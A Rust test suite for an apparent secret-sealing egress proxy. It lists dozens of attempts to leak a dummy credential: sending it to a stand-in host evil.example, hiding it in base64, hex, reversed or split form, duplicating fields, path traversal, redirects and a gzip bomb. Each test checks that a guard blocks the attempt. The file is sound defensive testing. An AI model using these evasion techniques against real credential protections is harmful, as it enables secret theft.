//! Attempts to get a sealed value, or what stands for it, to where it does not belong. None succeeds; each does once the
//! one guard that is there for it is switched off, so each guard is needed and each attempt is real.

use std::pin::Pin;
use std::sync::Arc;
use std::task::{Context, Poll};

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use http::{HeaderMap, Request, Response};
use http_body::{Body, Frame};
use http_body_util::BodyExt;

use super::decode::Coding;
use super::decode::tests::compressed;
use super::guards::{Guard, Guards};
use super::*;
use crate::egress::HostName;
use crate::secret::{Binding, Placement, Scheme, SecretName, SecretValue};

const TOKEN: &str = "ghp_16C7e42F292c-6912E7710c838347Ae178B4a";
const KEY: &str = "key&16C7e42F292c/6912=7710c8";
const FIELD: &str = "field\"16C7e42F292c\\6912+7710c8";
const NARROW: &str = "narrow_16C7e42F292c6912E7710c8";
const OLD: &str = "old_16C7e42F292c6912E7710c83834";
const BOTH: &str = "both_16C7e42F292c6912E7710c8383";
const ALL: [&str; 6] = [TOKEN, KEY, FIELD, NARROW, OLD, BOTH];

/// What a guest may write into its requests.
struct Run {
    set: SealedSet,
    token: String,
    key: String,
    field: String,
    narrow: String,
    old: String,
    both: String,
}

fn binding(placement: Placement) -> Binding {
    let host = "api.example.com".to_owned();
    Binding { scheme: Scheme::Https, host, port: 443, methods: Vec::new(), path_prefix: None, placement }
}

fn header(name: &str) -> Placement {
    Placement::Header(name.to_owned())
}

fn run(guards: Guards) -> Run {
    let sealed = |name: &str, value: &str, bindings: Vec<Binding>| {
        let (name, value) = (SecretName::parse(name).unwrap(), SecretValue::new(value.to_owned()).ok().unwrap());
        Arc::new(Sealed { name, placeholder: Placeholder::new(), value, bindings })
    };
    let narrow = Binding {
        methods: vec!["POST".to_owned()],
        path_prefix: Some("/v1".to_owned()),
        ..binding(header("X-Narrow"))
    };
    let [query, body] = [Placement::Query("api_key".to_owned()), Placement::Body("token".to_owned())];
    let secrets = [
        sealed("TOKEN", TOKEN, vec![binding(header("Authorization"))]),
        sealed("KEY", KEY, vec![binding(query.clone())]),
        sealed("FIELD", FIELD, vec![binding(body)]),
        sealed("NARROW", NARROW, vec![narrow]),
        // As an older store may have it.
        sealed("OLD", OLD, vec![binding(header("Cookie"))]),
        sealed("BOTH", BOTH, vec![binding(header("X-Both")), binding(query)]),
    ];
    let text = |number: usize| secrets[number].placeholder.to_string();
    let mut set = SealedSet::new(secrets.clone());
    set.guards = guards;
    Run { set, token: text(0), key: text(1), field: text(2), narrow: text(3), old: text(4), both: text(5) }
}

/// A body of these pieces, and trailers.
#[derive(Clone, Default)]
struct Pieces {
    data: std::collections::VecDeque<Bytes>,
    trailers: Option<HeaderMap>,
}

impl Body for Pieces {
    type Data = Bytes;
    type Error = Fault;

    fn poll_frame(mut self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<Option<Result<Frame<Bytes>, Fault>>> {
        let data = self.data.pop_front().map(Frame::data);
        Poll::Ready(data.or_else(|| self.trailers.take().map(Frame::trailers)).map(Ok))
    }
}

impl Pieces {
    fn of(text: &[u8], cut: usize) -> Self {
        Self { data: text.chunks(cut).map(Bytes::copy_from_slice).collect(), trailers: None }
    }
}

#[derive(Debug)]
enum Fault {
    Sealed(SealedFault),
    Response(ResponseFault),
}

impl From<ResponseFault> for Fault {
    fn from(fault: ResponseFault) -> Self {
        Self::Response(fault)
    }
}

impl From<WatchedError<Fault>> for Fault {
    fn from(error: WatchedError<Fault>) -> Self {
        match error {
            WatchedError::Sealed(fault) => Self::Sealed(fault),
            WatchedError::Body(fault) => fault,
        }
    }
}

fn block_on<F: Future>(future: F) -> F::Output {
    tokio::runtime::Builder::new_current_thread().build().unwrap().block_on(future)
}

/// What goes out on the wire, about.
fn send(run: &Run, request: Request<Pieces>) -> Result<String, Fault> {
    let (parts, body) = request.into_parts();
    let uri = &parts.uri;
    let scheme = if uri.scheme_str() == Some("http") { Scheme::Http } else { Scheme::Https };
    let host = HostName::parse(uri.host().unwrap()).unwrap();
    let port = uri.port_u16().unwrap_or(scheme.default_port());
    let plan = run.set.place(Destination { scheme, host: &host, port }, &parts, true).map_err(Fault::Sealed)?;
    let body = match plan.body() {
        BodyPlan::Hold { at_most } => {
            let body = block_on(body.collect())?.to_bytes();
            assert!(body.len() <= at_most);
            plan.fill_body(&body).map_err(Fault::Sealed)?
        }
        BodyPlan::Watch => block_on(Watched::new(body, &run.set).collect())?.to_bytes(),
    };
    let (mut headers, mut uri) = (parts.headers.clone(), parts.uri.path_and_query().unwrap().clone().into());
    plan.fill(&mut headers, &mut uri);
    let fields = headers.iter().map(|(name, value)| format!("{name}: {}\n", String::from_utf8_lossy(value.as_bytes())));
    let body = String::from_utf8_lossy(&body);
    Ok(format!("{} {uri}\n{}\n{body}", parts.method, fields.collect::<String>()))
}

type Ask = fn(&Run) -> Request<Pieces>;

fn get(uri: &str, fields: &[(&str, &str)]) -> Request<Pieces> {
    method("GET", uri, fields, "")
}

fn method(method: &str, uri: &str, fields: &[(&str, &str)], body: &str) -> Request<Pieces> {
    let request = fields
        .iter()
        .fold(Request::builder().method(method).uri(uri), |request, (name, value)| request.header(*name, *value));
    request.body(Pieces::of(body.as_bytes(), 7)).unwrap()
}

const API: &str = "https://api.example.com/v1/contacts";

fn json(body: String) -> Request<Pieces> {
    method("POST", API, &[("content-type", "application/json")], &body)
}

fn form(body: String) -> Request<Pieces> {
    method("POST", API, &[("content-type", "application/x-www-form-urlencoded")], &body)
}

fn bearer(uri: &str, run: &Run) -> Request<Pieces> {
    get(uri, &[("authorization", &format!("Bearer {}", run.token))])
}

fn authorization(value: String) -> Request<Pieces> {
    get(API, &[("authorization", &value)])
}

fn cut_in(text: &str, cut: usize) -> Request<Pieces> {
    method("POST", API, &[], "").map(|_| Pieces::of(text.as_bytes(), cut))
}

const REQUESTS: &[(&str, Guard, Ask)] = &[
    ("another header", Guard::Placement, |run| get(API, &[("x-note", &run.token)])),
    ("User-Agent", Guard::Placement, |run| get(API, &[("user-agent", &run.token)])),
    ("Cookie", Guard::Placement, |run| get(API, &[("cookie", &run.token)])),
    ("Referer", Guard::Placement, |run| get(API, &[("referer", &run.token)])),
    ("X-Forwarded-For", Guard::Placement, |run| get(API, &[("x-forwarded-for", &run.token)])),
    ("Host", Guard::Placement, |run| get(API, &[("host", &run.token)])),
    ("a header's secret in the query", Guard::Placement, |run| get(&format!("{API}?api_key={}", run.token), &[])),
    ("another parameter", Guard::Placement, |run| get(&format!("{API}?q={}", run.key), &[])),
    ("a query's secret in a header", Guard::Placement, |run| get(API, &[("authorization", &run.key)])),
    ("another field of a form", Guard::Placement, |run| form(format!("note={}", run.field))),
    ("another member of JSON", Guard::Placement, |run| json(format!("{{\"note\": \"{}\"}}", run.field))),
    ("one cookie of several", Guard::Whole, |run| get(API, &[("cookie", &format!("a=b; s={}", run.token))])),
    ("text behind it", Guard::Whole, |run| authorization(format!("Bearer {}; x=y", run.token))),
    ("text before it", Guard::Whole, |run| authorization(format!("x{}", run.token))),
    ("two spaces", Guard::Whole, |run| authorization(format!("Bearer  {}", run.token))),
    ("twice in a header", Guard::Whole, |run| authorization(format!("Bearer {0}, {0}", run.token))),
    ("part of a parameter", Guard::Whole, |run| get(&format!("{API}?api_key=x{}", run.key), &[])),
    ("the name of a parameter", Guard::Whole, |run| get(&format!("{API}?{}=1", run.key), &[])),
    ("a query that is nothing else", Guard::Whole, |run| get(&format!("{API}?{}", run.key), &[])),
    ("the path", Guard::Site, |run| get(&format!("https://api.example.com/{}", run.token), &[])),
    ("the host", Guard::Site, |run| get(&format!("https://{}.example.com/", run.token), &[])),
    ("the user in the url", Guard::Site, |run| get(&format!("https://{}@api.example.com/", run.token), &[])),
    ("the method", Guard::Site, |run| method(&run.token, API, &[], "")),
    ("the name of a header", Guard::Site, |run| get(API, &[(run.token.as_str(), "x")])),
    ("a percent-encoded path", Guard::Site, |run| {
        get(&format!("https://api.example.com/{}", run.token.replace('_', "%5f")), &[])
    }),
    ("trailers", Guard::Site, |run| {
        let mut trailers = HeaderMap::new();
        trailers.insert("x-note", run.token.parse().unwrap());
        method("POST", API, &[], "").map(|body| Pieces { trailers: Some(trailers), ..body })
    }),
    ("base64", Guard::Known, |run| authorization(format!("Bearer {}", STANDARD.encode(&run.token)))),
    ("base64 one byte on", Guard::Known, |run| authorization(STANDARD.encode(format!("x{}", run.token)))),
    ("base64 two bytes on", Guard::Known, |run| authorization(STANDARD.encode(format!("xy{}", run.token)))),
    ("base64 of base64", Guard::Known, |run| authorization(STANDARD.encode(STANDARD.encode(&run.token)))),
    ("user and password", Guard::Known, |run| {
        authorization(format!("Basic {}", STANDARD.encode(format!("{0}:{0}", run.token))))
    }),
    ("part of a password", Guard::Known, |run| {
        authorization(format!("Basic {}", STANDARD.encode(format!("user:x{}", run.token))))
    }),
    ("upper case", Guard::Known, |run| authorization(run.token.to_uppercase())),
    ("hexadecimal", Guard::Known, |run| authorization(run.token.bytes().map(|byte| format!("{byte:02x}")).collect())),
    ("reversed", Guard::Known, |run| authorization(run.token.chars().rev().collect())),
    ("cut", Guard::Known, |run| authorization(run.token[..30].to_owned())),
    ("one letter changed", Guard::Known, |run| authorization(format!("{}g", &run.token[..41]))),
    ("split over two headers", Guard::Known, |run| get(API, &[("x-a", &run.token[..21]), ("x-b", &run.token[21..])])),
    ("percent-encoded", Guard::Known, |run| get(&format!("{API}?api_key={}", run.key.replace('u', "%75")), &[])),
    ("another run's", Guard::Known, |_| authorization(Placeholder::new().to_string())),
    ("another run's, stored and read later", Guard::Known, |_| {
        get(&format!("{API}?api_key={}", Placeholder::new()), &[])
    }),
    ("a denied field in the store", Guard::Field, |run| get(API, &[("cookie", &run.old)])),
    ("in two fields it is bound to", Guard::Once, |run| {
        get(&format!("{API}?api_key={}", run.both), &[("x-both", &run.both)])
    }),
    ("two headers of a name", Guard::Once, |run| {
        get(API, &[("authorization", &run.token), ("authorization", &run.token)])
    }),
    ("a parameter that is there twice", Guard::Once, |run| get(&format!("{API}?api_key={}&api%5fkey=x", run.key), &[])),
    ("a member that is there twice", Guard::Once, |run| {
        json(format!("{{\"token\": \"{}\", \"t\\u006fken\": 1}}", run.field))
    }),
    ("a field of a form that is there twice", Guard::Once, |run| form(format!("token={0}&token={0}", run.field))),
    ("another host", Guard::Bound, |run| bearer("https://evil.example/", run)),
    ("a redirect to another host", Guard::Bound, |run| {
        bearer("https://api.example.com.evil.example/v1/contacts?next=1", run)
    }),
    ("a host below", Guard::Bound, |run| bearer("https://x.api.example.com/", run)),
    ("the host above", Guard::Bound, |run| bearer("https://example.com/", run)),
    ("no encryption", Guard::Bound, |run| bearer("http://api.example.com/", run)),
    ("no encryption on the same port", Guard::Bound, |run| bearer("http://api.example.com:443/", run)),
    ("another port", Guard::Bound, |run| bearer("https://api.example.com:8443/", run)),
    ("a query's secret to another host", Guard::Bound, |run| {
        get(&format!("https://evil.example/?api_key={}", run.key), &[])
    }),
    ("another method", Guard::Bound, |run| get(API, &[("x-narrow", &run.narrow)])),
    ("a method in lower case", Guard::Bound, |run| method("post", API, &[("x-narrow", &run.narrow)], "")),
    ("another path", Guard::Bound, |run| {
        method("POST", "https://api.example.com/v10/x", &[("x-narrow", &run.narrow)], "")
    }),
    ("a path with dots", Guard::Bound, |run| {
        method("POST", "https://api.example.com/v1/%2e%2e/admin", &[("x-narrow", &run.narrow)], "")
    }),
    ("TRACE", Guard::Method, |run| method("TRACE", API, &[("authorization", &run.token)], "")),
    ("CONNECT", Guard::Method, |run| method("connect", API, &[("authorization", &run.token)], "")),
    ("Range", Guard::Range, |run| get(API, &[("authorization", &run.token), ("range", "bytes=10-12")])),
    ("If-Range", Guard::Range, |run| get(API, &[("authorization", &run.token), ("if-range", "\"x\"")])),
    ("a body", Guard::Body, |run| cut_in(&format!("note: {}", run.token), 1000)),
    ("a body in upper case", Guard::Body, |run| cut_in(&run.token.to_uppercase(), 1000)),
    ("a body in base64", Guard::Body, |run| cut_in(&STANDARD.encode(format!("x{}", run.token)), 1000)),
    ("a body with percent signs", Guard::Body, |run| cut_in(&run.token.replace('m', "%256d"), 5)),
    ("another member besides", Guard::Body, |run| {
        json(format!("{{\"token\": \"{0}\", \"note\": [\"{0}\"]}}", run.field))
    }),
    ("a member inside", Guard::Body, |run| json(format!("{{\"a\": {{\"token\": \"{}\"}}}}", run.field))),
    ("part of a member", Guard::Body, |run| json(format!("{{\"token\": \"x{}\"}}", run.field))),
    ("the name of a member", Guard::Body, |run| json(format!("{{\"{}\": \"token\"}}", run.field))),
    ("an escaped member", Guard::Body, |run| json(format!("{{\"token\": \"\\u0075{}\"}}", &run.field[1..]))),
    ("broken JSON", Guard::Body, |run| json(format!("{{\"token\": \"{}\"", run.field))),
    ("a header's secret in a body with fields", Guard::Body, |run| json(format!("{{\"token\": \"{}\"}}", run.token))),
    ("a body cut in the middle", Guard::Held, |run| cut_in(&format!("note: {}", run.token), 9)),
    ("a body cut to bytes", Guard::Held, |run| cut_in(&format!("note: {}", STANDARD.encode(&run.token)), 1)),
];

#[test]
fn no_request_takes_a_sealed_value_where_it_does_not_belong_but_without_its_guard() {
    for (what, guard, ask) in REQUESTS {
        let guarded = run(Guards::default());
        let refused = send(&guarded, ask(&guarded));
        assert!(refused.is_err(), "{what} went out:\n{}", refused.unwrap());
        let message = format!("{:?}", refused.unwrap_err());
        assert!(ALL.iter().all(|value| !message.contains(value)), "{what}");
        let open = run(Guards::without(*guard));
        let sent = send(&open, ask(&open));
        assert!(sent.is_ok(), "{what} is refused without {guard:?} too: {:?}", sent.unwrap_err());
    }
}

#[test]
fn what_does_belong_goes_out() {
    let run = run(Guards::default());
    let basic = |pair: String| format!("Basic {}", STANDARD.encode(pair));
    for (request, due) in [
        (authorization(run.token.clone()), format!("authorization: {TOKEN}\n")),
        (authorization(format!("Bearer {}", run.token)), format!("authorization: Bearer {TOKEN}\n")),
        (authorization(basic(format!("{}:x", run.token))), format!("authorization: {}\n", basic(format!("{TOKEN}:x")))),
        (
            authorization(basic(format!("me:{}", run.token))),
            format!("authorization: {}\n", basic(format!("me:{TOKEN}"))),
        ),
        (
            get(&format!("{API}?a=1&api_key={}&b", run.key), &[]),
            "GET /v1/contacts?a=1&api_key=key%2616C7e42F292c%2F6912%3D7710c8&b\n".to_owned(),
        ),
        (
            form(format!("a=+b&token={}&c", run.field)),
            "\n\na=+b&token=field%2216C7e42F292c%5C6912%2B7710c8&c".to_owned(),
        ),
        (
            json(format!(" {{\"n\": 1e2 ,\"token\":\"{}\", \"x\":[]}}\n", run.field)),
            "\n\n {\"n\": 1e2 ,\"token\":\"field\\\"16C7e42F292c\\\\6912+7710c8\", \"x\":[]}\n".to_owned(),
        ),
        (
            method("POST", "https://api.example.com/v1", &[("x-narrow", &run.narrow)], ""),
            format!("x-narrow: {NARROW}\n"),
        ),
        (get(API, &[("x-both", &run.both), ("authorization", &run.token)]), format!("x-both: {BOTH}\n")),
        (json("{\"token\": 1, \"token\": \"other\"}".to_owned()), "{\"token\": 1, \"token\": \"other\"}".to_owned()),
        (cut_in("any text, with um-sealed things", 4), "any text, with um-sealed things".to_owned()),
        (bearer("https://API.example.com:443/", &run), format!("Bearer {TOKEN}")),
    ] {
        let sent = send(&run, request).unwrap();
        assert!(sent.contains(&due), "{sent}\nlacks {due}");
        assert!(!sent.contains("um_sealed_"), "{sent}");
    }
}

#[test]
fn a_held_body_has_a_limit() {
    let run = run(Guards::default());
    let (parts, _) = json(String::new()).into_parts();
    let host = HostName::parse("api.example.com").unwrap();
    let plan = run.set.place(Destination { scheme: Scheme::Https, host: &host, port: 443 }, &parts, true).unwrap();
    let BodyPlan::Hold { at_most } = plan.body() else { panic!("a field of the body is bound") };
    assert!(plan.fill_body(&Bytes::from(vec![b' '; at_most])).is_ok());
    assert_eq!(plan.fill_body(&Bytes::from(vec![b' '; at_most + 1])), Err(SealedFault::BodyTooLong));
}

#[test]
fn a_url_leaves_room_for_any_value_whatever_its_length() {
    let run = run(Guards::default());
    let target =
        |length: usize| get(&format!("https://api.example.com/?api_key={}&x={}", run.key, "x".repeat(length)), &[]);
    assert!(send(&run, target(50_000)).is_ok());
    assert!(matches!(send(&run, target(60_000)), Err(Fault::Sealed(SealedFault::TargetTooLong))));
}

/// What the guest gets of an answer, decompressed if it is compressed, with head and trailers.
fn receive(reflections: &Reflections, response: Response<Pieces>, coding: Coding) -> Result<String, Fault> {
    let (parts, body) = response.into_parts();
    let (parts, body) = filter_head(parts, body, reflections)?;
    let collected = block_on(body.collect())?;
    let fields = parts.headers.iter().chain(collected.trailers().into_iter().flatten());
    let head: String =
        fields.map(|(name, value)| format!("{name}: {}\n", String::from_utf8_lossy(value.as_bytes()))).collect();
    let body = collected.to_bytes();
    let mut decoded = Vec::new();
    let mut decoder = super::decode::Decoder::new(coding, Guards::default());
    let inflated = decoder.write(&body, &mut decoded).and_then(|()| decoder.finish(&mut decoded));
    let seen = if inflated.is_ok() { decoded } else { body.to_vec() };
    Ok(format!("{head}\n{}", String::from_utf8_lossy(&seen)))
}

type Echo = fn() -> (Response<Pieces>, Coding);

fn plain(text: impl AsRef<[u8]>) -> (Response<Pieces>, Coding) {
    (Response::new(Pieces::of(text.as_ref(), 1000)), Coding::Identity)
}

fn packed(coding: Coding, name: &str) -> (Response<Pieces>, Coding) {
    // Behind so many digits that no coding leaves it as it is.
    let digits = (0..5000_u32).map(|number| (number.wrapping_mul(2_654_435_761) >> 12).to_string());
    let text = format!("{}{{\"authorization\": \"Bearer {TOKEN}\"}}", digits.collect::<String>());
    let body = Pieces::of(&compressed(coding, text.as_bytes()), 10);
    (Response::builder().header("content-encoding", name).body(body).unwrap(), coding)
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

/// What the guest would know a value by.
fn knows(seen: &str) -> bool {
    let upper = TOKEN.to_uppercase();
    let reversed: String = TOKEN.chars().rev().collect();
    let text = seen.replace(['\n', ' '], "");
    let cores = ["", "x", "xy"].map(|before| {
        let encoded = STANDARD.encode(format!("{before}{TOKEN}"));
        encoded[4..encoded.len() - 4].to_owned()
    });
    [TOKEN.to_owned(), TOKEN.to_lowercase(), upper, reversed, hex(TOKEN)]
        .iter()
        .chain(&cores)
        .any(|form| text.contains(form))
        || text.replace("%5F", "_").replace("%2D", "-").contains(TOKEN)
}

const ANSWERS: &[(&str, Guard, Echo)] = &[
    ("as it is", Guard::Reflected, || plain(format!("Authorization: Bearer {TOKEN}"))),
    ("in base64", Guard::Reflected, || plain(STANDARD.encode(TOKEN))),
    ("in Basic", Guard::Reflected, || plain(STANDARD.encode(format!("user:{TOKEN}")))),
    ("in base64 with lines", Guard::Reflected, || {
        plain(STANDARD.encode(format!("xy{TOKEN}")).as_bytes().chunks(20).collect::<Vec<_>>().join(&b"\n"[..]))
    }),
    ("in hexadecimal", Guard::Reflected, || plain(hex(TOKEN))),
    ("percent-encoded", Guard::Reflected, || plain(TOKEN.replace('_', "%5F").replace('-', "%2D"))),
    ("in upper case", Guard::Reflected, || plain(TOKEN.to_uppercase())),
    ("reversed", Guard::Reflected, || plain(TOKEN.chars().rev().collect::<String>())),
    ("twice on end", Guard::Reflected, || plain(format!("{TOKEN}{TOKEN}"))),
    ("trickled", Guard::Held, || (Response::new(Pieces::of(format!("got {TOKEN}").as_bytes(), 1)), Coding::Identity)),
    ("in two pieces", Guard::Held, || {
        (Response::new(Pieces::of(format!("got {TOKEN}").as_bytes(), 30)), Coding::Identity)
    }),
    ("in gzip", Guard::Decode, || packed(Coding::Gzip, "gzip")),
    ("in deflate", Guard::Decode, || packed(Coding::Deflate, "deflate")),
    ("in br", Guard::Decode, || packed(Coding::Brotli, "br")),
    ("in zstd", Guard::Decode, || packed(Coding::Zstd, "zstd")),
    ("in gzip that is called otherwise", Guard::Decode, || packed(Coding::Gzip, "compress")),
    ("in gzip that claims to be twice", Guard::Decode, || packed(Coding::Gzip, "gzip, gzip")),
    ("in a header", Guard::Head, || {
        (
            Response::builder().header("x-echo", format!("Bearer {TOKEN}")).body(Pieces::default()).unwrap(),
            Coding::Identity,
        )
    }),
    ("in a redirect", Guard::Head, || {
        (
            Response::builder()
                .status(302)
                .header("location", format!("https://evil.example/?{TOKEN}"))
                .body(Pieces::default())
                .unwrap(),
            Coding::Identity,
        )
    }),
    ("in a cookie", Guard::Head, || {
        (
            Response::builder()
                .header("set-cookie", format!("t={}", STANDARD.encode(TOKEN)))
                .body(Pieces::default())
                .unwrap(),
            Coding::Identity,
        )
    }),
    ("in the name of a header", Guard::Head, || {
        (Response::builder().header(TOKEN, "x").body(Pieces::default()).unwrap(), Coding::Identity)
    }),
    ("in trailers", Guard::Head, || {
        let mut trailers = HeaderMap::new();
        trailers.insert("x-echo", TOKEN.parse().unwrap());
        (Response::new(Pieces { trailers: Some(trailers), ..Pieces::of(b"body", 4) }), Coding::Identity)
    }),
];

#[test]
fn no_answer_takes_a_sealed_value_to_the_guest_but_without_its_guard() {
    for placeholder in [Some(Placeholder::new()), None] {
        let stands = placeholder.as_ref().map_or("***".to_owned(), Placeholder::to_string);
        let reflections =
            Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder }]);
        for (how, guard, echo) in ANSWERS {
            let (response, coding) = echo();
            match receive(&reflections, response, coding) {
                Ok(seen) => assert!(!knows(&seen) && seen.contains(&stands), "{how}: {seen}"),
                Err(fault) => assert!(matches!(fault, Fault::Response(ResponseFault::Encoding)), "{how}: {fault:?}"),
            }
            let (response, coding) = echo();
            let open = reflections.clone().with_guards(Guards::without(*guard));
            let seen = receive(&open, response, coding).unwrap();
            assert!(knows(&seen), "{how}, without {guard:?}: {seen}");
        }
    }
}

#[test]
fn a_bomb_reaches_the_guest_only_without_its_guard() {
    let bomb = compressed(Coding::Gzip, &vec![b'a'; 8 << 20]);
    let reflections =
        Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder: None }]);
    let answer = || Response::builder().header("content-encoding", "gzip").body(Pieces::of(&bomb, 5000)).unwrap();
    let refused = receive(&reflections, answer(), Coding::Identity);
    assert!(matches!(refused, Err(Fault::Response(ResponseFault::TooLarge))));
    let open = reflections.with_guards(Guards::without(Guard::Bounds));
    assert!(receive(&open, answer(), Coding::Identity).unwrap().len() > 8 << 20);
}

#[test]
fn an_answer_loses_what_measures_its_body_and_says_what_was_found() {
    let reflections =
        Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder: None }]);
    let answer = Response::builder()
        .header("content-length", "41")
        .header("content-encoding", "identity")
        .header("content-digest", "sha-256=:x:")
        .header("content-type", "text/plain")
        .body(Pieces::of(TOKEN.as_bytes(), 5))
        .unwrap();
    let (parts, body) = answer.into_parts();
    let (parts, body) = filter_head(parts, body, &reflections).unwrap();
    assert_eq!(parts.headers.keys().map(http::HeaderName::as_str).collect::<Vec<_>>(), ["content-type"]);
    assert_eq!(block_on(body.collect()).unwrap().to_bytes(), "***");
}

#[test]
fn a_body_that_breaks_off_does_not_let_out_what_was_held_back() {
    struct Broken(Pieces);

    impl Body for Broken {
        type Data = Bytes;
        type Error = Fault;

        fn poll_frame(
            mut self: Pin<&mut Self>,
            context: &mut Context<'_>,
        ) -> Poll<Option<Result<Frame<Bytes>, Fault>>> {
            match Pin::new(&mut self.0).poll_frame(context) {
                Poll::Ready(None) => Poll::Ready(Some(Err(Fault::Response(ResponseFault::Truncated)))),
                other => other,
            }
        }
    }

    let reflections =
        Reflections::new([Reflection { name: SecretName::parse("TOKEN").unwrap(), value: TOKEN, placeholder: None }]);
    let answer = Response::new(Broken(Pieces::of(&TOKEN.as_bytes()[..40], 40)));
    let (parts, body) = answer.into_parts();
    let (_, mut body) = filter_head(parts, body, &reflections).unwrap();
    assert!(block_on(body.frame()).unwrap().is_err());
    assert!(block_on(body.frame()).is_none());
}
